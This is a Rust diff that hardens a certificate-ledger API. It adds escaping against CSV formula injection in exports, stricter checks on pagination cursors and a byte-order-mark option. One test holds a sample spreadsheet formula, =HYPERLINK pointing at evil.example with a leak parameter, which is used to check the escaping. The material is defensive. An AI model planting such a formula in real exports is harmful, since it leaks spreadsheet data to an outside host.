@@ -4,8 +4,8 @@
 
 use axum::Json;
 use axum::body::{Body, Bytes};
+use axum::extract::State;
 use axum::extract::rejection::BytesRejection;
-use axum::extract::{Path, State};
 use axum::http::{HeaderMap, HeaderValue, StatusCode, header};
 use axum::response::{IntoResponse, Response};
 use base64::Engine;
@@ -20,8 +20,8 @@ use crate::ca::{self, KeyAlgorithm};
 use crate::http::error::ApiError;
 use crate::http::error_code::ErrorCode;
 use crate::http::extract::{
-    ApiQuery, Caller, RequestId, StationCaller, ViewerCaller, parse_time, payload_too_large,
-    unsupported_media_type,
+    ApiPath, ApiQuery, Caller, RequestId, StationCaller, ViewerCaller, parse_time,
+    payload_too_large, unsupported_media_type,
 };
 use crate::services::issuance::{IssuanceRequest, Issued};
 use crate::store::{
@@ -175,16 +175,33 @@ fn csr_from_body(headers: &HeaderMap, body: &[u8]) -> Result<Vec<u8>, ApiError> 
             let parsed: CsrBody = serde_json::from_slice(body).map_err(|e| {
                 ApiError::new(
                     ErrorCode::InvalidRequest,
-                    format!("the body must be a JSON object {{\"csr\": \"<PEM>\"}}: {e}"),
+                    format!(
+                        "the body must be a JSON object {{\"csr\": \"<PEM>\"}}; {}",
+                        crate::http::messages::plain_serde_json(&e)
+                    ),
                 )
             })?;
             Ok(parsed.csr.into_bytes())
         }
+        PKCS10 if looks_like_json(body) => Err(ApiError::new(
+            ErrorCode::InvalidCsr,
+            "the body is JSON but was sent as application/pkcs10: send {\"csr\": \"<PEM>\"} \
+             with Content-Type: application/json, or the PEM or DER CSR itself as \
+             application/pkcs10",
+        )),
         PKCS10 => Ok(body.to_vec()),
         _ => Err(unsupported_media_type(
             "application/json ({\"csr\": \"<PEM>\"}) or application/pkcs10 (PEM or DER)",
         )),
     }
+}
+
+/// A body whose first visible character opens a JSON object: never a PEM or DER CSR (PEM
+/// starts with `-`, DER with the SEQUENCE tag 0x30).
+fn looks_like_json(body: &[u8]) -> bool {
+    body.iter()
+        .find(|b| !b.is_ascii_whitespace())
+        .is_some_and(|&b| b == b'{')
 }
 
 fn respond(headers: &HeaderMap, issued: Issued) -> Response {
@@ -297,7 +314,7 @@ pub struct ListParams {
     thing_name: Option<String>,
     /// Exactly this country code.
     country: Option<String>,
-    /// Exactly this station (token name).
+    /// Exactly this station: a token name, or `cert:<CN>` for a station client certificate.
     station: Option<String>,
     /// `active` or `revoked`.
     status: Option<String>,
@@ -317,6 +334,9 @@ pub struct ListParams {
     /// `desc` (newest first, the default) or `asc`; `issued_at_desc`/`-issued_at` and
     /// `issued_at_asc`/`issued_at` mean the same.
     sort: Option<String>,
+    /// Export only: `true` starts the file with a UTF-8 byte order mark, so that Excel reads
+    /// non-ASCII subjects correctly. Default `false`.
+    bom: Option<bool>,
 }
 
 #[derive(Serialize, utoipa::ToSchema)]
@@ -347,6 +367,12 @@ pub async fn list_certificates(
     _viewer: ViewerCaller,
     ApiQuery(params): ApiQuery<ListParams>,
 ) -> Result<Json<CertificatePage>, ApiError> {
+    if params.bom.is_some() {
+        return Err(ApiError::new(
+            ErrorCode::InvalidQuery,
+            "bom applies only to /v1/certificates/export.csv",
+        ));
+    }
     let limit = params.limit.unwrap_or(DEFAULT_PAGE);
     if !(1..=MAX_PAGE).contains(&limit) {
         return Err(ApiError::new(
@@ -356,7 +382,7 @@ pub async fn list_certificates(
     }
     let filter = certificate_filter(params)?;
     // One row more than asked tells whether another page exists.
-    let mut rows = state.store.list_certificates(&filter, limit + 1).await?;
+    let mut rows = state.reads.list_certificates(&filter, limit + 1).await?;
     let next_cursor = if rows.len() > limit as usize {
         rows.truncate(limit as usize);
         rows.last().map(|r| encode_cursor(r.issued_at, &r.serial))
@@ -374,7 +400,7 @@ pub async fn list_certificates(
 
 /// The columns of `GET /v1/certificates/export.csv`, in order: a stable interface (documented
 /// in docs/operations.md); add columns at the end, never rename or reorder.
-pub const CSV_COLUMNS: [&str; 18] = [
+pub const CSV_COLUMNS: [&str; 19] = [
     "serial",
     "thing_name",
     "country",
@@ -393,6 +419,7 @@ pub const CSV_COLUMNS: [&str; 18] = [
     "revocation_reason",
     "aws_status",
     "aws_first_seen_at",
+    "aws_revocation_pending",
 ];
 /// Rows read from the store per chunk of the CSV stream: memory stays constant.
 const EXPORT_CHUNK: u32 = 1000;
@@ -426,15 +453,22 @@ pub async fn export_certificates_csv(
             "limit must be at least 1 (omit it to export every matching row)",
         ));
     }
+    let bom = params.bom.take().unwrap_or(false);
     let mut filter = certificate_filter(params)?;
     // The first chunk is read before answering, so that a store outage is a 503, not a
     // truncated 200.
     let first = state
-        .store
+        .reads
         .list_certificates(&filter, EXPORT_CHUNK.min(remaining as u32))
         .await?;
-    let store = state.store.clone();
-    let mut header = CSV_COLUMNS.join(",");
+    let store = state.reads.clone();
+    // Excel opens a CSV without a byte order mark in the system's code page.
+    let mut header = if bom {
+        "\u{feff}".to_owned()
+    } else {
+        String::new()
+    };
+    header.push_str(&CSV_COLUMNS.join(","));
     header.push_str("\r\n");
     let head = futures_util::stream::once(async move { Ok(Bytes::from(header)) });
     let rows = futures_util::stream::try_unfold(Some(first), move |page| {
@@ -493,7 +527,7 @@ pub async fn export_certificates_csv(
 /// Appends one CSV line (RFC 4180) for a ledger row.
 fn csv_row(out: &mut String, r: &CertificateRecord) {
     let time = Timestamp::rfc3339;
-    let fields: [std::borrow::Cow<'_, str>; 18] = [
+    let fields: [std::borrow::Cow<'_, str>; 19] = [
         r.serial.as_str().into(),
         r.thing_name.as_str().into(),
         r.country.as_deref().unwrap_or_default().into(),
@@ -514,6 +548,12 @@ fn csv_row(out: &mut String, r: &CertificateRecord) {
             .into(),
         r.aws_status.map_or("", |status| status.as_aws()).into(),
         r.aws_first_seen_at.map(time).unwrap_or_default().into(),
+        if r.aws_revocation_pending {
+            "true"
+        } else {
+            "false"
+        }
+        .into(),
     ];
     for (i, field) in fields.iter().enumerate() {
         if i > 0 {
@@ -524,8 +564,16 @@ fn csv_row(out: &mut String, r: &CertificateRecord) {
     out.push_str("\r\n");
 }
 
+/// One RFC 4180 field. A field a spreadsheet would read as a formula (OWASP's CSV injection
+/// rule: it starts with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading `'` and
+/// quotes, so Excel, LibreOffice and Google Sheets show it as text instead of evaluating it. Thing
+/// names may start with `-`; stored request ids predate the safe request id alphabet.
 fn csv_field(out: &mut String, field: &str) {
-    if field.contains([',', '"', '\r', '\n']) {
+    if field.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        out.push_str("\"'");
+        out.push_str(&field.replace('"', "\"\""));
+        out.push('"');
+    } else if field.contains([',', '"', '\r', '\n']) {
         out.push('"');
         out.push_str(&field.replace('"', "\"\""));
         out.push('"');
@@ -540,8 +588,12 @@ fn certificate_filter(params: ListParams) -> Result<CertificateFilter, ApiError>
         .status
         .as_deref()
         .map(|status| {
-            LedgerStatus::from_name(status).ok_or_else(|| {
-                ApiError::new(ErrorCode::InvalidQuery, "status must be active or revoked")
+            // Any case: the API shows `active`, AWS statuses are upper case, people type both.
+            LedgerStatus::from_name(&status.to_ascii_lowercase()).ok_or_else(|| {
+                ApiError::new(
+                    ErrorCode::InvalidQuery,
+                    "status must be active or revoked (any case)",
+                )
             })
         })
         .transpose()?;
@@ -549,15 +601,17 @@ fn certificate_filter(params: ListParams) -> Result<CertificateFilter, ApiError>
         .aws_status
         .as_deref()
         .map(|aws_status| {
-            AwsStatusFilter::parse(aws_status).ok_or_else(|| {
-                ApiError::new(
-                    ErrorCode::InvalidQuery,
-                    format!(
-                        "aws_status must be one of {}",
-                        AwsStatusFilter::names().join(", ")
-                    ),
-                )
-            })
+            AwsStatusFilter::parse(&aws_status.to_ascii_uppercase())
+                .or_else(|| AwsStatusFilter::parse(&aws_status.to_ascii_lowercase()))
+                .ok_or_else(|| {
+                    ApiError::new(
+                        ErrorCode::InvalidQuery,
+                        format!(
+                            "aws_status must be one of {} (any case)",
+                            AwsStatusFilter::names().join(", ")
+                        ),
+                    )
+                })
         })
         .transpose()?;
     if let Some(q) = &params.q
@@ -614,7 +668,7 @@ fn certificate_filter(params: ListParams) -> Result<CertificateFilter, ApiError>
 pub async fn get_certificate(
     State(state): State<AppState>,
     _viewer: ViewerCaller,
-    Path(serial): Path<String>,
+    ApiPath(serial): ApiPath<String>,
 ) -> Result<Json<CertificateView>, ApiError> {
     let serial = serial.to_ascii_lowercase();
     let not_found = || {
@@ -645,11 +699,27 @@ fn decode_cursor(cursor: &str) -> Result<(Timestamp, String), ApiError> {
             "cursor is not one this API returned",
         )
     };
+    // A cursor is what `encode_cursor` wrote: a UTC time in range and a serial (40 lowercase
+    // hex digits). Anything else is refused, not passed on to the store.
+    if cursor.len() > 128 {
+        return Err(invalid());
+    }
     let bytes = URL_SAFE_NO_PAD.decode(cursor).map_err(|_| invalid())?;
     let text = String::from_utf8(bytes).map_err(|_| invalid())?;
     let (at, serial) = text.split_once('|').ok_or_else(invalid)?;
-    let at = OffsetDateTime::parse(at, &Rfc3339).map_err(|_| invalid())?;
-    Ok((Timestamp::new(at), serial.to_owned()))
+    if !at.ends_with('Z')
+        || serial.len() != 40
+        || !serial
+            .bytes()
+            .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
+    {
+        return Err(invalid());
+    }
+    let at = OffsetDateTime::parse(at, &Rfc3339)
+        .ok()
+        .and_then(Timestamp::checked)
+        .ok_or_else(invalid)?;
+    Ok((at, serial.to_owned()))
 }
 
 #[cfg(test)]
@@ -667,9 +737,53 @@ mod tests {
     }
 
     #[test]
+    fn csv_fields_a_spreadsheet_would_evaluate_are_neutralised() {
+        let mut out = String::new();
+        for field in [
+            "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Open\")",
+            "+1",
+            "-thing",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+            "a=b",
+        ] {
+            csv_field(&mut out, field);
+            out.push('|');
+        }
+        assert_eq!(
+            out,
+            "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"Open\"\")\"|\"'+1\"|\
+             \"'-thing\"|\"'@SUM(A1)\"|\"'\tx\"|\"'\rx\"|a=b|"
+        );
+    }
+
+    #[test]
     fn cursors_round_trip_to_the_microsecond() {
         let at = Timestamp::new(time::macros::datetime!(2026-11-28 10:00:00.123456 UTC));
-        let (back, serial) = decode_cursor(&encode_cursor(at, "ab")).unwrap();
-        assert_eq!((back, serial.as_str()), (at, "ab"));
+        let serial = "0123456789abcdef0123456789abcdef01234567";
+        let (back, decoded) = decode_cursor(&encode_cursor(at, serial)).unwrap();
+        assert_eq!((back, decoded.as_str()), (at, serial));
+    }
+
+    #[test]
+    fn forged_cursors_are_refused() {
+        let serial = "0123456789abcdef0123456789abcdef01234567";
+        for text in [
+            format!("9999-12-31T23:59:59-23:59|{serial}"),
+            format!("0000-01-01T00:00:00+23:59|{serial}"),
+            format!("2026-11-28T10:00:00+01:00|{serial}"),
+            "2026-11-28T10:00:00Z|ab".to_owned(),
+            format!("2026-11-28T10:00:00Z|{}", serial.to_uppercase()),
+            format!("2026-11-28T10:00:00Z|{serial}\0"),
+            "no separator".to_owned(),
+        ] {
+            assert!(
+                decode_cursor(&URL_SAFE_NO_PAD.encode(&text)).is_err(),
+                "{text}"
+            );
+        }
+        assert!(decode_cursor("not base64!").is_err());
+        assert!(decode_cursor(&"A".repeat(4096)).is_err());
     }
 }
